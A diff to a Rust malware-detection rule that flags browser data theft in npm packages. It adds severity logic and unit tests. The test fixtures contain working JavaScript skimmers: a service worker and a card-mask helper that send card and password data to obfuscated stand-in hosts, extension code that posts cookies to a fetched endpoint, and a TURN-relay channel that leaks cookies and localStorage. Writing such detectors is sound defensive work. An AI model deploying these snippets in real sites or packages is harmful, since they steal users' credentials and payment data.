@@ -2,7 +2,7 @@
 
 use super::{SENDS, chain, describe, exfil_destination, finding, flow_finding, flows, locality};
 use crate::CodeFinding;
-use crate::flow::{FlowPath, SinkKind, SourceKind};
+use crate::flow::{FlowPath, SinkKind, SourceKind, flags};
 use crate::signal::{FileFacts, Kind, PackageFacts};
 use diligence_finding::Severity;
 use std::collections::BTreeSet;
@@ -17,7 +17,10 @@ diligence_finding::declare_rule! {
     /// form inputs (`querySelectorAll('input')`, a constant selector handed to the page's own query helper
     /// `q('input')`, `FormData`, `submit`/`change` events), the cookie jar, web
     /// storage (the whole store, or a named entry that holds a token or secret), the clipboard, wallet-provider
-    /// answers, the requests a replaced `fetch`/XHR method receives — through variables, encoders, callbacks,
+    /// answers, the requests a replaced `fetch`/XHR method receives, the requests a service worker's `fetch`
+    /// event or an extension's `webRequest` listener sees (bodies, `Authorization` headers), the cookie jar read
+    /// through an extension or the Cookie Store API (`chrome.cookies.getAll({ domain })`, `HttpOnly` cookies
+    /// included) — through variables, encoders, callbacks,
     /// helpers and
     /// modules — also in code a build plugin emits into the bundles it builds (a string handed to Babel's
     /// `template`, a MagicString `prepend`/`append`, `emitFile`, or joined into a transform's `code`), which runs
@@ -26,8 +29,10 @@ diligence_finding::declare_rule! {
     /// a `/card|cvv|cvc/` name pattern) count as password/card fields. With a hard-coded destination: critical
     /// for password/card fields or key strokes, for two kinds
     /// of data, for an exfiltration-style endpoint, or for a destination URL decoded at run time
-    /// (`String.fromCharCode`, `atob`); high for the whole cookie jar, a storage dump or the
-    /// clipboard; medium for form inputs alone. Without a complete path: cookies, storage, forms or sensitive
+    /// (`String.fromCharCode`, `atob`, a string-table helper); high for the whole cookie jar, a storage dump or the
+    /// clipboard; medium for form inputs alone. A destination received from a host the package names (an
+    /// endpoint in a fetched configuration, with the target domains) counts like a hard-coded one: critical for
+    /// password/card data or two kinds of data, high for a store, medium for inputs. Without a complete path: cookies, storage, forms or sensitive
     /// fields read with a send in the same file or package.
     ///
     /// ## Why it matters
@@ -49,7 +54,9 @@ diligence_finding::declare_rule! {
     /// wrapper's caller names, `getItem(prefix + key)`): low. Payment SDKs that post card fields to their own
     /// constant host would be critical; they are loaded from the processor's CDN rather than bundled from npm.
     /// Bundler plugins inject their own runtime (HMR clients, preload helpers, polyfills); it is judged by what it
-    /// does, and reads no form, cookie or storage data.
+    /// does, and reads no form, cookie or storage data. Offline-caching service workers and proxies forward the
+    /// request they intercepted to where it was going (`fetch(event.request)`): not reported. A server
+    /// framework's `ctx.cookies.get('sid')` reads one request cookie by name and is not the jar.
     pub static BROWSER_DATA_THEFT = { id: "code/browser-data-theft", severity: Severity::Critical };
 }
 
@@ -190,16 +197,31 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
         .filter(|f| f.from.what.contains("://"))
         .map(|f| (f.to.file.as_str(), f.to.line))
         .collect();
+    // Sends whose destination came from the network (an endpoint in a fetched configuration):
+    // the package names no host, and the server picks where the data goes.
+    let remote = |f: &FlowPath| f.dest.is_none() && f.flags & flags::REMOTE_DEST != 0;
+    let remote_kinds: BTreeSet<SourceKind> = flows(p, SOURCES, &[SinkKind::Network])
+        .filter(|f| remote(f) && weight(f) >= 1)
+        .map(|f| f.source)
+        .collect();
     let mut out = Vec::new();
     for path in flows(p, SOURCES, &[SinkKind::Network]).take(20) {
-        // Form inputs read by code that singles out password or payment fields
-        // (`el.type === 'password'`, `/card|cvv|cvc/`) are what the user typed there.
-        let picked = path.source == SourceKind::FormInput
+        // Form inputs (or intercepted requests) read by code that singles out password or
+        // payment fields (`el.type === 'password'`, `/card|cvv|cvc/`) are what the user typed
+        // there.
+        let picked = matches!(path.source, SourceKind::FormInput | SourceKind::Intercepted)
             && p.file(&path.from.file)
                 .is_some_and(|f| f.has(Kind::SensitiveField));
         let w = if picked { 3 } else { weight(path) };
         let concealed = hidden.contains(&(path.to.file.as_str(), path.to.line));
         let sev = match (path.dest.is_some(), w) {
+            // A service worker or proxy forwarding the request it intercepted to where the
+            // request itself was going (`fetch(event.request)`).
+            (false, _) if path.source == SourceKind::Intercepted && !remote(path) => continue,
+            (false, 3) if remote(path) => Severity::Critical,
+            (false, 1 | 2) if remote(path) && remote_kinds.len() >= 2 => Severity::Critical,
+            (false, 2) if remote(path) => Severity::High,
+            (false, 1) if remote(path) => Severity::Medium,
             (true, _) if exfil_destination(path.dest.as_deref()) => Severity::Critical,
             (true, 1..) if concealed => Severity::Critical,
             (true, 3) => Severity::Critical,
@@ -212,6 +234,8 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
         };
         let hid = if concealed {
             " (destination decoded at run time)"
+        } else if remote(path) {
+            " (destination received from the network)"
         } else {
             ""
         };
@@ -585,6 +609,141 @@ mod tests {
             hits(&s, "code/browser-data-theft").is_empty(),
             "{:?}",
             s.findings
+        );
+    }
+
+    /// A service worker that mirrors POST bodies naming card or password fields to a host
+    /// spelled in char codes, while its caching works.
+    #[test]
+    fn positive_service_worker_mirrors_request_bodies() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "sw.js",
+                "const E = [104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 101, 120, 97, 109, 112, 108, 101, 47, 99];\nfunction copy(req) {\n  const to = String.fromCharCode.apply(null, E);\n  return req.clone().text().then((body) => {\n    if (!/pass|card|cvv|cvc/i.test(body)) return;\n    return fetch(to, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ u: req.url, b: body }) });\n  });\n}\nself.addEventListener('fetch', (e) => {\n  if (e.request.method === 'POST') e.waitUntil(copy(e.request));\n});\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
+        assert_eq!(
+            (f.file.as_str(), f.line, f.severity),
+            ("sw.js", 6, diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// The same through the worker's `onfetch` property, the body read with `json()`.
+    #[test]
+    fn positive_service_worker_onfetch_property() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "sw.js",
+                "self.onfetch = function (e) {\n  if (e.request.method !== 'POST') return;\n  e.waitUntil(e.request.clone().json().then(function (b) {\n    fetch('https://t.example.com/c', { method: 'POST', body: JSON.stringify({ u: e.request.url, card: b.cardNumber, cvv: b.cvv }) });\n  }));\n};\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
+        assert_eq!(f.line, 4);
+    }
+
+    /// The benign look-alike: an offline-caching worker fetches the intercepted request
+    /// itself and caches the response.
+    #[test]
+    fn negative_service_worker_caches_requests() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "sw.js",
+                "const V = 'v1';\nself.addEventListener('fetch', (e) => {\n  if (e.request.method !== 'GET') return;\n  e.respondWith(caches.open(V).then((c) => c.match(e.request).then((hit) => hit || fetch(e.request).then((res) => { c.put(e.request, res.clone()); return res; }))));\n});\n",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/browser-data-theft").is_empty(),
+            "{:?}",
+            s.findings
+        );
+    }
+
+    /// An extension helper whose target domains and endpoint come from a fetched
+    /// configuration: `chrome.cookies.getAll` for each domain, posted to the configured host.
+    #[test]
+    fn positive_extension_cookies_to_a_configured_endpoint() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "src/sync.js",
+                "async function sync(api) {\n  const cfg = await (await fetch('https://cfg.example.com/c.json')).json();\n  const out = [];\n  for (const d of cfg.domains) out.push(await api.cookies.getAll({ domain: d }));\n  await fetch(cfg.endpoint, { method: 'POST', body: JSON.stringify(out) });\n}\nmodule.exports = { sync };\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
+        assert_eq!((f.line, f.severity), (5, diligence_finding::Severity::High));
+    }
+
+    /// The benign look-alikes: a server framework reading one request cookie by name and
+    /// calling an API, and an extension that hands cookies to its own UI by messaging.
+    #[test]
+    fn negative_named_request_cookie_and_extension_messaging() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "src/session.js",
+                "async function me(ctx) {\n  const sid = ctx.cookies.get('sid');\n  const cfg = await (await fetch('https://cfg.example.com/c.json')).json();\n  return fetch(cfg.api + '/me', { headers: { 'x-session': sid } });\n}\nfunction list(cb) {\n  chrome.cookies.getAll({ domain: location.hostname }, (all) => chrome.runtime.sendMessage({ type: 'cookies', all }));\n}\nmodule.exports = { me, list };\n",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/browser-data-theft").is_empty(),
+            "{:?}",
+            s.findings
+        );
+    }
+
+    /// A card-mask helper that also hooks the form's `submit` (event name and beacon host in
+    /// a base64 table read through a feature-tested `atob` helper) and beacons the fields to
+    /// a protocol-relative URL.
+    #[test]
+    fn positive_form_hook_through_a_string_table_helper() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "dist/mask.js",
+                "var T = ['c3VibWl0', 'Ly8yMDMuMC4xMTMuOS9wLmdpZg=='];\nfunction _(i) { return typeof atob === 'function' ? atob(T[i]) : ''; }\nfunction attach(input) {\n  input.addEventListener('input', function () { input.value = input.value.replace(/\\D/g, ''); });\n  var form = input.form;\n  form.addEventListener(_(0), function () {\n    var o = {};\n    [].forEach.call(form.elements, function (el) { o[el.name] = el.value; });\n    new Image().src = _(1) + '?d=' + btoa(JSON.stringify(o));\n  }, true);\n}\nmodule.exports = { attach };\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
+        assert_eq!(f.line, 9);
+        assert!(f.severity >= diligence_finding::Severity::High, "{f:?}");
+    }
+
+    /// The benign look-alike: the same mask formats the field and never sends it.
+    #[test]
+    fn negative_card_mask_formats_only() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "dist/mask.js",
+                "var T = ['aW5wdXQ='];\nfunction _(i) { return typeof atob === 'function' ? atob(T[i]) : ''; }\nfunction attach(input) {\n  input.addEventListener(_(0), function () {\n    var d = input.value.replace(/\\D/g, '');\n    input.value = d.replace(/(\\d{4})(?=\\d)/g, '$1 ');\n    [].forEach.call(input.form.elements, function (el) { el.setAttribute('aria-invalid', String(!el.value)); });\n  });\n}\nmodule.exports = { attach };\n",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/browser-data-theft").is_empty(),
+            "{:?}",
+            s.findings
+        );
+    }
+
+    /// A diagnostics peer whose ICE list is the caller's plus a constant TURN relay: data
+    /// sent on its channel goes to that relay.
+    #[test]
+    fn positive_turn_relay_added_to_the_callers_servers() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "src/ice.js",
+                "const RELAY = { urls: 'turn:198.51.100.7:3478', username: 'u', credential: 'p' };\nfunction probe(servers) {\n  const pc = new RTCPeerConnection({ iceServers: servers.concat([RELAY]), iceTransportPolicy: 'relay' });\n  const ch = pc.createDataChannel('d');\n  ch.onopen = () => ch.send(JSON.stringify({ c: document.cookie, l: JSON.stringify(localStorage) }));\n}\nmodule.exports = { probe };\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
+        assert_eq!(
+            (f.line, f.severity),
+            (5, diligence_finding::Severity::Critical)
         );
     }
 }
